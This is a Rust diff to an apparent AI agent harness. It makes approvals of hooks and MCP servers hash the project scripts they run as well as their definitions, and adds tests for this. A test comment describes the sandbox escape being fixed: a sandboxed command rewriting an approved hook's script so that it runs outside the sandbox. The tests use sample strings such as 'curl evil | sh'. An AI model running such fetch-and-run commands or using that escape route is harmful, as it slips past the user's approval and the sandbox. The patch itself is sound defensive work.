@@ -51,13 +51,125 @@ struct ApprovedFile {
     approved: Vec<Approval>,
 }
 
-/// The hash an approval is remembered by: SHA-256 over the definition's JSON text. serde_json
+/// The hash an approval is remembered by: SHA-256 over the definition's JSON text and over the
+/// files in the project (`workdir`, canonical) that it runs (`named_files`), so rewriting a hook's or
+/// server's script (from a sandboxed command, say) is a new, unapproved definition. serde_json
 /// keeps an object's keys sorted, so the same definition written in another key order, or with
 /// other whitespace, hashes the same.
-pub fn definition_hash(definition: &serde_json::Value) -> String {
-    let text = definition.to_string();
-    let digest = Sha256::digest(text.as_bytes());
-    digest.iter().map(|byte| format!("{byte:02x}")).collect()
+pub fn definition_hash(definition: &serde_json::Value, workdir: &Path) -> String {
+    let mut hasher = Sha256::new();
+    hasher.update(definition.to_string().as_bytes());
+    for (path, state) in named_files(definition, workdir) {
+        hasher.update(b"\0");
+        hasher.update(path.as_os_str().as_encoded_bytes());
+        hasher.update(b"\0");
+        hasher.update(state.as_bytes());
+    }
+    hasher
+        .finalize()
+        .iter()
+        .map(|byte| format!("{byte:02x}"))
+        .collect()
+}
+
+/// The variables a hook's command may name the project by.
+const PROJECT_VARIABLES: &[&str] = &["HARNESS9_PROJECT_DIR", "CLAUDE_PROJECT_DIR"];
+
+/// Programs that run the script their first operand names.
+const INTERPRETERS: &[&str] = &[
+    "sh", "bash", "dash", "zsh", "ksh", "fish", "python", "python3", "node", "deno", "bun", "ruby",
+    "perl", "php", "lua", "tsx", "ts-node", "Rscript", "pwsh",
+];
+
+/// The files in `workdir` a definition runs, sorted, with what is there now: the SHA-256 of
+/// the bytes (through links), `absent`, `dir` or `unreadable`. What runs: every command's
+/// program when given as a path (a hook's command lines parsed into simple commands, a
+/// server's `command` with its `args`), and the script an interpreter (`sh`, `python3`,
+/// `node`...) is given as its first operand. An absent one counts too: a script created later
+/// changes the hash.
+fn named_files(definition: &serde_json::Value, workdir: &Path) -> Vec<(PathBuf, String)> {
+    let mut command_lines: Vec<Vec<String>> = Vec::new();
+    if let Some(program) = definition
+        .get("command")
+        .and_then(serde_json::Value::as_str)
+    {
+        let args = definition.get("args").and_then(serde_json::Value::as_array);
+        let args = args
+            .into_iter()
+            .flatten()
+            .filter_map(serde_json::Value::as_str);
+        command_lines.push(
+            std::iter::once(program)
+                .chain(args)
+                .map(str::to_owned)
+                .collect(),
+        );
+    }
+    let mut strings = Vec::new();
+    collect_strings(definition, &mut strings);
+    for text in strings {
+        command_lines.extend(
+            crate::shell::parse(text)
+                .commands
+                .into_iter()
+                .map(|c| c.words),
+        );
+    }
+    let project = workdir.to_string_lossy();
+    let mut named: Vec<PathBuf> = Vec::new();
+    for words in &command_lines {
+        let Some(program) = words.first() else {
+            continue;
+        };
+        let name = program.rsplit('/').next().unwrap_or(program);
+        let script = INTERPRETERS
+            .contains(&name)
+            .then(|| words[1..].iter().find(|w| !w.starts_with('-')))
+            .flatten();
+        let run = std::iter::once(program)
+            .filter(|p| p.contains('/'))
+            .chain(script);
+        for word in run {
+            // A word with an expansion is kept as written (`"$HARNESS9_PROJECT_DIR"/x.sh`):
+            // the project's variables are the one expansion resolved here, quotes dropped.
+            let mut word = word.clone();
+            for variable in PROJECT_VARIABLES {
+                for form in [format!("${{{variable}}}"), format!("${variable}")] {
+                    word = word.replace(&form, &project);
+                }
+            }
+            if word.contains('"') {
+                word.retain(|c| c != '"');
+            }
+            let path = crate::files::paths::resolve(workdir, &word);
+            if crate::files::paths::is_inside(workdir, &path) && !named.contains(&path) {
+                named.push(path);
+            }
+        }
+    }
+    named.sort();
+    named
+        .into_iter()
+        .map(|path| {
+            let state = match std::fs::read(&path) {
+                Ok(bytes) => crate::files::hash_of(&bytes),
+                Err(_) if path.is_dir() => "dir".to_owned(),
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => "absent".to_owned(),
+                Err(_) => "unreadable".to_owned(),
+            };
+            (path, state)
+        })
+        .collect()
+}
+
+/// Every string in `value`, at any depth.
+fn collect_strings<'a>(value: &'a serde_json::Value, out: &mut Vec<&'a str>) {
+    match value {
+        serde_json::Value::String(text) => out.push(text),
+        serde_json::Value::Array(items) => items.iter().for_each(|v| collect_strings(v, out)),
+        serde_json::Value::Object(map) => map.values().for_each(|v| collect_strings(v, out)),
+        _ => {}
+    }
 }
 
 /// Whether the user approved exactly this definition (`hash`) of the extension `name` of the
@@ -136,7 +248,7 @@ mod tests {
         let home = tempfile::tempdir().unwrap();
         let work = Path::new("/srv/repo");
         let hook = json!({"command": "cargo fmt", "timeout": 30});
-        let hash = definition_hash(&hook);
+        let hash = definition_hash(&hook, work);
         let kind = ExtensionKind::Hooks;
         assert!(!is_approved(
             home.path(),
@@ -157,7 +269,7 @@ mod tests {
         ));
         let mcp = ExtensionKind::McpServer;
         assert!(!is_approved(home.path(), work, mcp, "settings.json", &hash));
-        let changed = definition_hash(&json!({"command": "curl evil | sh", "timeout": 30}));
+        let changed = definition_hash(&json!({"command": "curl evil | sh", "timeout": 30}), work);
         assert!(!is_approved(
             home.path(),
             work,
@@ -187,8 +299,48 @@ mod tests {
     fn key_order_and_whitespace_do_not_change_the_hash() {
         let a: serde_json::Value = serde_json::from_str(r#"{"a": 1, "b": [2, 3]}"#).unwrap();
         let b: serde_json::Value = serde_json::from_str("{\"b\":[2,3],\n\"a\":1}").unwrap();
-        assert_eq!(definition_hash(&a), definition_hash(&b));
-        assert_eq!(definition_hash(&a).len(), 64);
+        let work = Path::new("/srv/repo");
+        assert_eq!(definition_hash(&a, work), definition_hash(&b, work));
+        assert_eq!(definition_hash(&a, work).len(), 64);
+    }
+
+    /// Issue 29 point 6: the approval hashed the definition's text only, so a sandboxed command
+    /// could rewrite an approved hook's or server's script, which then ran outside the sandbox.
+    #[test]
+    fn rewriting_a_script_the_definition_names_voids_the_approval() {
+        let home = tempfile::tempdir().unwrap();
+        let dir = tempfile::tempdir().unwrap();
+        let work = dir.path().canonicalize().unwrap();
+        std::fs::create_dir_all(work.join("hooks")).unwrap();
+        std::fs::write(work.join("hooks/fmt.sh"), "cargo fmt\n").unwrap();
+        std::fs::write(work.join("server.py"), "print('tools')\n").unwrap();
+        let hook = json!({"PostToolUse": [{"hooks": [
+            {"type": "command", "command": "sh \"$HARNESS9_PROJECT_DIR\"/hooks/fmt.sh --check"}
+        ]}]});
+        let server = json!({"command": "python3", "args": ["-u", "server.py"]});
+        let kind = ExtensionKind::Hooks;
+        for (definition, script) in [(&hook, "hooks/fmt.sh"), (&server, "server.py")] {
+            let hash = definition_hash(definition, &work);
+            assert_eq!(hash, definition_hash(definition, &work), "stable");
+            approve(home.path(), &work, kind, script, &hash).unwrap();
+            std::fs::write(work.join(script), "curl evil | sh\n").unwrap();
+            let now = definition_hash(definition, &work);
+            assert!(
+                !is_approved(home.path(), &work, kind, script, &now),
+                "{script} rewritten"
+            );
+        }
+        // A script the definition names that appears later changes the hash too.
+        let later = json!({"command": "node", "args": ["--enable-source-maps", "dist/index.js"]});
+        let before = definition_hash(&later, &work);
+        std::fs::create_dir_all(work.join("dist")).unwrap();
+        std::fs::write(work.join("dist/index.js"), "evil()\n").unwrap();
+        assert_ne!(before, definition_hash(&later, &work));
+        // What a hook writes is not what it runs: its approval holds after it ran.
+        let touch = json!({"command": "touch hook-ran"});
+        let before = definition_hash(&touch, &work);
+        std::fs::write(work.join("hook-ran"), "").unwrap();
+        assert_eq!(before, definition_hash(&touch, &work));
     }
 
     #[test]
